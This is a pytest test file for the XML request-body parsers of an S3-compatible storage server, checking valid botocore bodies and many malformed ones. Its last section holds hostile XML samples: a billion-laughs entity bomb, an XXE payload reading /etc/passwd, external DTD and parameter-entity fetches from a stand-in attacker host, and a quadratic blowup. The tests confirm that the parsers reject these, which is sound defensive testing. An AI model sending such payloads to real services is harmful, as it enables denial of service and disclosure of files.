"""Request-body parsers in strongroom.http.s3.xml: what clients send, and every way to send it wrong."""

from __future__ import annotations

import time
import xml.etree.ElementTree as ET
from collections.abc import Callable
from typing import Any

import botocore.session
import pytest
from botocore.serialize import create_serializer
from defusedxml.common import DTDForbidden
from hypothesis import given, settings
from hypothesis import strategies as st

from strongroom.http.s3 import xml as sx
from strongroom.http.s3.errors import S3Error

NS = 'xmlns="http://s3.amazonaws.com/doc/2006-03-01/"'
MODEL = botocore.session.get_session().get_service_model("s3")
SERIALIZER = create_serializer("rest-xml", include_validation=True)

Parser = Callable[[bytes], Any]
PARSERS: dict[str, tuple[Parser, str]] = {
    "create_bucket": (sx.parse_create_bucket, "CreateBucketConfiguration"),
    "delete_objects": (sx.parse_delete_objects, "Delete"),
    "complete_multipart": (sx.parse_complete_multipart, "CompleteMultipartUpload"),
    "encryption": (sx.parse_encryption_configuration, "ServerSideEncryptionConfiguration"),
}
VALID: dict[str, bytes] = {
    "create_bucket": (
        b"<CreateBucketConfiguration><LocationConstraint>local</LocationConstraint></CreateBucketConfiguration>"
    ),
    "delete_objects": b"<Delete><Object><Key>k</Key></Object></Delete>",
    "complete_multipart": (
        b"<CompleteMultipartUpload><Part><PartNumber>1</PartNumber><ETag>e</ETag></Part>"
        b"</CompleteMultipartUpload>"
    ),
    "encryption": (
        b"<ServerSideEncryptionConfiguration><Rule><ApplyServerSideEncryptionByDefault>"
        b"<SSEAlgorithm>AES256</SSEAlgorithm></ApplyServerSideEncryptionByDefault></Rule>"
        b"</ServerSideEncryptionConfiguration>"
    ),
}


def botocore_body(operation: str, params: dict[str, Any]) -> bytes:
    """The exact body botocore would send for ``operation``."""
    body = SERIALIZER.serialize_to_request(params, MODEL.operation_model(operation))["body"]
    assert isinstance(body, bytes)
    return body


def raises(code: str, parse: Parser, body: bytes) -> S3Error:
    with pytest.raises(S3Error) as info:
        parse(body)
    assert info.value.code == code
    return info.value


def malformed(parse: Parser, body: bytes) -> S3Error:
    err = raises("MalformedXML", parse, body)
    assert err.status == 400
    assert err.message == (
        "The XML you provided was not well-formed or did not validate against our published schema."
    )
    return err


def with_ns(body: bytes) -> bytes:
    """Put the S3 namespace on the root element of ``body``."""
    head, _, rest = body.partition(b">")
    return head + b" " + NS.encode() + b">" + rest


# --- CreateBucket -------------------------------------------------------------


def test_create_bucket_from_botocore() -> None:
    body = botocore_body(
        "CreateBucket", {"Bucket": "b", "CreateBucketConfiguration": {"LocationConstraint": "local"}}
    )
    assert sx.parse_create_bucket(body) == "local"


@pytest.mark.parametrize("namespaced", [False, True])
def test_create_bucket_with_and_without_namespace(namespaced: bool) -> None:
    body = VALID["create_bucket"]
    assert sx.parse_create_bucket(with_ns(body) if namespaced else body) == "local"


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"  \r\n\t",
        b"<CreateBucketConfiguration/>",
        b"<CreateBucketConfiguration><LocationConstraint/></CreateBucketConfiguration>",
        b"<CreateBucketConfiguration><LocationConstraint> </LocationConstraint></CreateBucketConfiguration>",
    ],
)
def test_create_bucket_without_a_constraint_is_none(body: bytes) -> None:
    assert sx.parse_create_bucket(body) is None


def test_create_bucket_prolog_and_whitespace_are_fine() -> None:
    body = (
        b'<?xml version="1.0" encoding="UTF-8"?>\n<CreateBucketConfiguration ' + NS.encode() + b">\n"
        b"  <LocationConstraint>\n eu-west-1 \n</LocationConstraint>\n</CreateBucketConfiguration>\n"
    )
    assert sx.parse_create_bucket(body) == "eu-west-1"


def test_create_bucket_in_utf16() -> None:
    body = '<?xml version="1.0" encoding="UTF-16"?>' + VALID["create_bucket"].decode()
    assert sx.parse_create_bucket(body.encode("utf-16")) == "local"


@pytest.mark.parametrize(
    "body",
    [
        b"<CreateBucketConfiguration><LocationConstraint>local</LocationConstraint>",
        b"<CreateBucketConfiguration><LocationConstraint>local</CreateBucketConfiguration>",
        b"not xml at all",
        b"<CreateBucketConfiguration><LocationConstraint>local</LocationConstraint></CreateBucketConfiguration><x/>",
        b"<CreateBucket><LocationConstraint>local</LocationConstraint></CreateBucket>",
        b'<CreateBucketConfiguration xmlns="http://example.com/"><LocationConstraint>x</LocationConstraint></CreateBucketConfiguration>',
        b'<s3:CreateBucketConfiguration xmlns:s3="http://s3.amazonaws.com/doc/2006-03-01/" xmlns:o="urn:o">'
        b"<o:LocationConstraint>x</o:LocationConstraint></s3:CreateBucketConfiguration>",
        b"<CreateBucketConfiguration><LocationConstraint><x/></LocationConstraint></CreateBucketConfiguration>",
        b"<CreateBucketConfiguration><LocationConstraint>a</LocationConstraint><LocationConstraint>b</LocationConstraint></CreateBucketConfiguration>",
        b"<CreateBucketConfiguration><Region>local</Region></CreateBucketConfiguration>",
        b"<CreateBucketConfiguration>junk<LocationConstraint>local</LocationConstraint></CreateBucketConfiguration>",
        b"<CreateBucketConfiguration><LocationConstraint>local</LocationConstraint>junk</CreateBucketConfiguration>",
        b"<CreateBucketConfiguration><LocationConstraint>\xff\xfe</LocationConstraint></CreateBucketConfiguration>",
        b'<?xml version="1.0" encoding="x-no-such-codec"?><CreateBucketConfiguration/>',
        b"<CreateBucketConfiguration><LocationConstraint>&undefined;</LocationConstraint></CreateBucketConfiguration>",
        b"<CreateBucketConfiguration><LocationConstraint>&#x1;</LocationConstraint></CreateBucketConfiguration>",
    ],
)
def test_create_bucket_rejections(body: bytes) -> None:
    malformed(sx.parse_create_bucket, body)


def test_create_bucket_with_the_s3_namespace_as_a_prefix_is_fine() -> None:
    body = (
        b'<s3:CreateBucketConfiguration xmlns:s3="http://s3.amazonaws.com/doc/2006-03-01/">'
        b"<s3:LocationConstraint>local</s3:LocationConstraint></s3:CreateBucketConfiguration>"
    )
    assert sx.parse_create_bucket(body) == "local"


@pytest.mark.parametrize("element", ["Tags", "Bucket", "Location"])
def test_create_bucket_features_not_implemented_are_refused_not_ignored(element: str) -> None:
    body = f"<CreateBucketConfiguration><{element}/></CreateBucketConfiguration>".encode()
    assert raises("NotImplemented", sx.parse_create_bucket, body).status == 501


# --- DeleteObjects ------------------------------------------------------------

KEYS = ["plain", "a&b<c>d\"e'f", " lead and trail ", "ünï€😀/x", "tab\there", "+%20 %"]


def test_delete_objects_from_botocore() -> None:
    objects = [{"Key": k} for k in KEYS] + [{"Key": "v", "VersionId": "3HL4kqtJlcpXroDTDmJ+rmSpXd3dIbrHY"}]
    body = botocore_body("DeleteObjects", {"Bucket": "b", "Delete": {"Objects": objects, "Quiet": True}})
    assert sx.parse_delete_objects(body) == (
        [(k, None) for k in KEYS] + [("v", "3HL4kqtJlcpXroDTDmJ+rmSpXd3dIbrHY")],
        True,
    )


@pytest.mark.parametrize("namespaced", [False, True])
@pytest.mark.parametrize(
    ("quiet", "expected"),
    [
        ("", False),
        ("<Quiet>false</Quiet>", False),
        ("<Quiet>true</Quiet>", True),
        ("<Quiet> TRUE </Quiet>", True),
    ],
)
def test_delete_objects_quiet(namespaced: bool, quiet: str, expected: bool) -> None:
    body = f"<Delete>{quiet}<Object><Key>k</Key><VersionId>null</VersionId></Object></Delete>".encode()
    assert sx.parse_delete_objects(with_ns(body) if namespaced else body) == ([("k", "null")], expected)


def test_delete_objects_character_references_keep_carriage_returns() -> None:
    body = b"<Delete><Object><Key>a&#13;b&#x0D;&#10;c&#xE9;</Key></Object></Delete>"
    assert sx.parse_delete_objects(body) == ([("a\rb\r\nc\u00e9", None)], False)


def test_delete_objects_allows_exactly_1000() -> None:
    body = b"<Delete>" + b"<Object><Key>k</Key></Object>" * sx.MAX_DELETE_OBJECTS + b"</Delete>"
    keys, _ = sx.parse_delete_objects(body)
    assert len(keys) == 1000


def test_delete_objects_with_1000_maximal_keys_fits() -> None:
    objects = [{"Key": f"{i:04d}" + "k" * 1020} for i in range(1000)]
    body = botocore_body("DeleteObjects", {"Bucket": "b", "Delete": {"Objects": objects}})
    assert len(body) > 1024 * 1024
    assert len(sx.parse_delete_objects(body)[0]) == 1000


@pytest.mark.parametrize(
    "body",
    [
        b"<Delete>" + b"<Object><Key>k</Key></Object>" * (sx.MAX_DELETE_OBJECTS + 1) + b"</Delete>",
        b"<Delete></Delete>",
        b"<Delete><Quiet>true</Quiet></Delete>",
        b"<Delete><Object></Object></Delete>",
        b"<Delete><Object><VersionId>v</VersionId></Object></Delete>",
        b"<Delete><Object><Key></Key></Object></Delete>",
        b"<Delete><Object><Key>a</Key><Key>b</Key></Object></Delete>",
        b"<Delete><Object><Key>a<b/></Key></Object></Delete>",
        b"<Delete><Object><Key>a</Key><VersionId>1</VersionId><VersionId>2</VersionId></Object></Delete>",
        b"<Delete><Object><Key>a</Key><Colour>red</Colour></Object></Delete>",
        b"<Delete><Object><Key>a</Key></Object><Quiet>maybe</Quiet></Delete>",
        b"<Delete><Object><Key>a</Key></Object><Quiet>1</Quiet></Delete>",
        b"<Delete><Object><Key>a</Key></Object><Quiet>true</Quiet><Quiet>true</Quiet></Delete>",
        b"<Delete><Object><Key>a</Key></Object><Thing/></Delete>",
        b"<Delete><Object>junk<Key>a</Key></Object></Delete>",
        b"<DeleteObjects><Object><Key>a</Key></Object></DeleteObjects>",
        b"<Object><Key>a</Key></Object>",
        b"<Delete><Object><Key>a</Key></Object>",
    ],
)
def test_delete_objects_rejections(body: bytes) -> None:
    malformed(sx.parse_delete_objects, body)


@pytest.mark.parametrize(
    "element",
    ["<ETag>e</ETag>", "<Size>1</Size>", "<LastModifiedTime>2026-01-01T00:00:00Z</LastModifiedTime>"],
)
def test_conditional_deletes_are_refused_not_done_unconditionally(element: str) -> None:
    body = f"<Delete><Object><Key>a</Key>{element}</Object></Delete>".encode()
    assert raises("NotImplemented", sx.parse_delete_objects, body).status == 501


# --- CompleteMultipartUpload ----------------------------------------------------


def test_complete_multipart_from_botocore() -> None:
    parts = [
        {"ETag": '"9b2cf535f27731c974343645a3985328"', "PartNumber": 1, "ChecksumCRC32": "AAAAAA=="},
        {"ETag": "unquoted", "PartNumber": 10000, "ChecksumSHA256": "c2hh", "ChecksumCRC64NVME": "bnZtZQ=="},
        {"ETag": '"e3"', "PartNumber": 3},
    ]
    body = botocore_body(
        "CompleteMultipartUpload",
        {"Bucket": "b", "Key": "k", "UploadId": "u", "MultipartUpload": {"Parts": parts}},
    )
    assert sx.parse_complete_multipart(body) == [
        sx.CompletedPart(1, '"9b2cf535f27731c974343645a3985328"', {"CRC32": "AAAAAA=="}),
        sx.CompletedPart(10000, "unquoted", {"SHA256": "c2hh", "CRC64NVME": "bnZtZQ=="}),
        sx.CompletedPart(3, '"e3"', {}),
    ]


@pytest.mark.parametrize("namespaced", [False, True])
def test_complete_multipart_with_and_without_namespace(namespaced: bool) -> None:
    body = (
        b"<CompleteMultipartUpload>\n  <Part>\n    <PartNumber> 2 </PartNumber>\n"
        b"    <ETag>&quot;e&quot;</ETag>\n    <ChecksumCRC32C>Y3Jj</ChecksumCRC32C>\n"
        b"  </Part>\n</CompleteMultipartUpload>"
    )
    assert sx.parse_complete_multipart(with_ns(body) if namespaced else body) == [
        sx.CompletedPart(2, '"e"', {"CRC32C": "Y3Jj"})
    ]


def test_complete_multipart_with_10000_checksummed_parts_fits() -> None:
    parts = [
        {"ETag": f'"{i:032x}"', "PartNumber": i, "ChecksumSHA256": "A" * 43 + "="} for i in range(1, 10001)
    ]
    body = botocore_body(
        "CompleteMultipartUpload",
        {"Bucket": "b", "Key": "k", "UploadId": "u", "MultipartUpload": {"Parts": parts}},
    )
    assert len(body) > 1024 * 1024
    assert len(sx.parse_complete_multipart(body)) == 10000


def _part(number: str = "<PartNumber>1</PartNumber>", etag: str = "<ETag>e</ETag>", extra: str = "") -> bytes:
    return f"<CompleteMultipartUpload><Part>{number}{etag}{extra}</Part></CompleteMultipartUpload>".encode()


@pytest.mark.parametrize(
    "number",
    [
        "one",
        "1.0",
        "",
        "-1",
        "+1",
        "0",
        "10001",
        "99999",
        "123456",
        "1_0",
        "\uff11",
        "\u0661",
        "0x1",
        "1e3",
        "1 2",
    ],
)
def test_complete_multipart_part_number_must_be_1_to_10000(number: str) -> None:
    malformed(sx.parse_complete_multipart, _part(number=f"<PartNumber>{number}</PartNumber>"))


@pytest.mark.parametrize(
    "body",
    [
        _part(number=""),
        _part(etag=""),
        _part(etag="<ETag></ETag>"),
        _part(etag="<ETag>  </ETag>"),
        _part(extra="<ETag>f</ETag>"),
        _part(extra="<PartNumber>2</PartNumber>"),
        _part(extra="<ChecksumCRC32>a</ChecksumCRC32><ChecksumCRC32>b</ChecksumCRC32>"),
        _part(extra="<ChecksumADLER32>a</ChecksumADLER32>"),
        _part(extra="<Size>5</Size>"),
        _part(number="<PartNumber><n>1</n></PartNumber>"),
        b"<CompleteMultipartUpload></CompleteMultipartUpload>",
        b"<CompleteMultipartUpload><Parts/></CompleteMultipartUpload>",
        b"<CompleteMultipartUpload>"
        + b"<Part><PartNumber>1</PartNumber><ETag>e</ETag></Part>" * (sx.MAX_COMPLETE_PARTS + 1)
        + b"</CompleteMultipartUpload>",
        b"<CompleteMultipartUploadResult><Part><PartNumber>1</PartNumber><ETag>e</ETag></Part></CompleteMultipartUploadResult>",
        b"<CompleteMultipartUpload><Part><PartNumber>1</PartNumber><ETag>e</ETag></Part>",
    ],
)
def test_complete_multipart_rejections(body: bytes) -> None:
    malformed(sx.parse_complete_multipart, body)


@settings(max_examples=100, deadline=None)
@given(st.lists(st.integers(min_value=1, max_value=10000), min_size=1, max_size=20))
def test_complete_multipart_part_numbers_round_trip(numbers: list[int]) -> None:
    parts = [{"ETag": f'"{n}"', "PartNumber": n} for n in numbers]
    body = botocore_body(
        "CompleteMultipartUpload",
        {"Bucket": "b", "Key": "k", "UploadId": "u", "MultipartUpload": {"Parts": parts}},
    )
    assert [(p.part_number, p.etag) for p in sx.parse_complete_multipart(body)] == [
        (n, f'"{n}"') for n in numbers
    ]


# --- PutBucketEncryption --------------------------------------------------------


@pytest.mark.parametrize(
    ("default", "bucket_key", "expected"),
    [
        ({"SSEAlgorithm": "AES256"}, None, sx.EncryptionRule("AES256")),
        ({"SSEAlgorithm": "aws:kms"}, True, sx.EncryptionRule("aws:kms", None, True)),
        (
            {"SSEAlgorithm": "aws:kms", "KMSMasterKeyID": "key-1"},
            False,
            sx.EncryptionRule("aws:kms", "key-1"),
        ),
        (
            {"SSEAlgorithm": "aws:kms:dsse", "KMSMasterKeyID": "arn:aws:kms:local:1:key/k"},
            True,
            sx.EncryptionRule("aws:kms:dsse", "arn:aws:kms:local:1:key/k", True),
        ),
    ],
)
def test_encryption_from_botocore(
    default: dict[str, str], bucket_key: bool | None, expected: sx.EncryptionRule
) -> None:
    rule: dict[str, Any] = {"ApplyServerSideEncryptionByDefault": default}
    if bucket_key is not None:
        rule["BucketKeyEnabled"] = bucket_key
    body = botocore_body(
        "PutBucketEncryption", {"Bucket": "b", "ServerSideEncryptionConfiguration": {"Rules": [rule]}}
    )
    assert sx.parse_encryption_configuration(body) == expected


@pytest.mark.parametrize("namespaced", [False, True])
def test_encryption_with_and_without_namespace(namespaced: bool) -> None:
    body = VALID["encryption"]
    assert sx.parse_encryption_configuration(with_ns(body) if namespaced else body) == sx.EncryptionRule(
        "AES256"
    )


def _sse(rule: str) -> bytes:
    return f"<ServerSideEncryptionConfiguration>{rule}</ServerSideEncryptionConfiguration>".encode()


def _default(inner: str, after: str = "") -> bytes:
    return _sse(
        f"<Rule><ApplyServerSideEncryptionByDefault>{inner}</ApplyServerSideEncryptionByDefault>{after}</Rule>"
    )


@pytest.mark.parametrize(
    "body",
    [
        _default("<SSEAlgorithm>DES</SSEAlgorithm>"),
        _default("<SSEAlgorithm>aes256</SSEAlgorithm>"),
        _default("<SSEAlgorithm></SSEAlgorithm>"),
        _default("<SSEAlgorithm>aws:kms:</SSEAlgorithm>"),
        _default(""),
        _default("<KMSMasterKeyID>k</KMSMasterKeyID>"),
        _default("<SSEAlgorithm>AES256</SSEAlgorithm><SSEAlgorithm>AES256</SSEAlgorithm>"),
        _default("<SSEAlgorithm>AES256</SSEAlgorithm>", "<BucketKeyEnabled>yes</BucketKeyEnabled>"),
        _default("<SSEAlgorithm>AES256</SSEAlgorithm>", "<Colour/>"),
        _sse(""),
        _sse("<Rule></Rule>"),
        _sse("<Rule><BucketKeyEnabled>true</BucketKeyEnabled></Rule>"),
        _sse(
            "<Rule><ApplyServerSideEncryptionByDefault><SSEAlgorithm>AES256</SSEAlgorithm></ApplyServerSideEncryptionByDefault></Rule>"
            "<Rule><ApplyServerSideEncryptionByDefault><SSEAlgorithm>AES256</SSEAlgorithm></ApplyServerSideEncryptionByDefault></Rule>"
        ),
        b"<ServerSideEncryptionRule><ApplyServerSideEncryptionByDefault><SSEAlgorithm>AES256</SSEAlgorithm>"
        b"</ApplyServerSideEncryptionByDefault></ServerSideEncryptionRule>",
    ],
)
def test_encryption_rejections(body: bytes) -> None:
    malformed(sx.parse_encryption_configuration, body)


def test_encryption_kms_key_with_aes256_is_an_invalid_argument() -> None:
    body = _default("<SSEAlgorithm>AES256</SSEAlgorithm><KMSMasterKeyID>k</KMSMasterKeyID>")
    err = raises("InvalidArgument", sx.parse_encryption_configuration, body)
    assert err.extra == {"ArgumentName": "ApplyServerSideEncryptionByDefault"}


def test_encryption_blocked_types_are_refused_not_ignored() -> None:
    body = _default(
        "<SSEAlgorithm>AES256</SSEAlgorithm>",
        "<BlockedEncryptionTypes><EncryptionType>SSE-C</EncryptionType></BlockedEncryptionTypes>",
    )
    assert raises("NotImplemented", sx.parse_encryption_configuration, body).status == 501


# --- hostile documents, for every parser ----------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<ROOT><X>&lol9;</X></ROOT>"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE ROOT [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<ROOT><X>&xxe;</X></ROOT>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE ROOT [<!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd"> %remote;]>
<ROOT/>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE ROOT SYSTEM "http://attacker.invalid/evil.dtd">
<ROOT/>"""

QUADRATIC = (
    b'<?xml version="1.0"?><!DOCTYPE ROOT [<!ENTITY a "'
    + b"x" * 50_000
    + b'">]><ROOT><X>'
    + b"&a;" * 10_000
    + b"</X></ROOT>"
)

HOSTILE = {
    "billion_laughs": BILLION_LAUGHS,
    "xxe": XXE,
    "parameter_entity": PARAMETER_ENTITY,
    "external_dtd": EXTERNAL_DTD,
    "quadratic": QUADRATIC,
}


@pytest.mark.parametrize("parser", sorted(PARSERS))
@pytest.mark.parametrize("attack", sorted(HOSTILE))
def test_dtds_and_entities_are_refused_before_any_expansion(parser: str, attack: str) -> None:
    parse, root = PARSERS[parser]
    inner = {
        "create_bucket": b"<LocationConstraint>&lol9;&xxe;&a;</LocationConstraint>",
        "delete_objects": b"<Object><Key>&lol9;&xxe;&a;</Key></Object>",
        "complete_multipart": b"<Part><PartNumber>1</PartNumber><ETag>&lol9;&xxe;&a;</ETag></Part>",
        "encryption": b"<Rule><ApplyServerSideEncryptionByDefault><SSEAlgorithm>&lol9;&xxe;&a;"
        b"</SSEAlgorithm></ApplyServerSideEncryptionByDefault></Rule>",
    }[parser]
    body = HOSTILE[attack].replace(b"ROOT", root.encode())
    body = body.replace(b"<X>&lol9;</X>", inner).replace(b"<X>&xxe;</X>", inner)
    body = body.replace(b"<X>" + b"&a;" * 10_000 + b"</X>", inner)
    started = time.monotonic()
    err = malformed(parse, body)
    assert time.monotonic() - started < 1.0
    # The parser stopped at the DOCTYPE: nothing was declared, so nothing could be expanded or fetched.
    assert isinstance(err.__cause__, DTDForbidden)


def test_an_entity_declared_without_a_doctype_is_still_refused() -> None:
    err = malformed(sx.parse_delete_objects, b"<Delete><Object><Key>&passwd;</Key></Object></Delete>")
    assert isinstance(err.__cause__, ET.ParseError)  # undefined entity: a plain parse error, nothing resolved


@pytest.mark.parametrize("parser", sorted(PARSERS))
def test_each_valid_sample_parses(parser: str) -> None:
    parse, _ = PARSERS[parser]
    parse(VALID[parser])
    parse(with_ns(VALID[parser]))


@pytest.mark.parametrize("parser", sorted(PARSERS))
def test_every_parser_refuses_garbage_and_wrong_roots(parser: str) -> None:
    parse, _ = PARSERS[parser]
    for body in (b"<", b"<Wrong/>", b"\x00\x01\x02", b"<a></b>", b'{"json": true}'):
        malformed(parse, body)


@pytest.mark.parametrize(
    ("parser", "limit"),
    [
        ("create_bucket", sx.MAX_XML_BODY),
        ("encryption", sx.MAX_XML_BODY),
        ("delete_objects", sx.MAX_LIST_XML_BODY),
        ("complete_multipart", sx.MAX_LIST_XML_BODY),
    ],
)
def test_oversized_bodies_are_refused_unparsed(parser: str, limit: int) -> None:
    parse, _ = PARSERS[parser]
    valid = VALID[parser]
    padded = valid + b" " * (limit - len(valid))
    parse(padded)  # at the limit: fine (trailing whitespace is allowed after the root)
    err = malformed(parse, padded + b" ")
    assert err.__cause__ is None  # refused on size, before the parser saw it
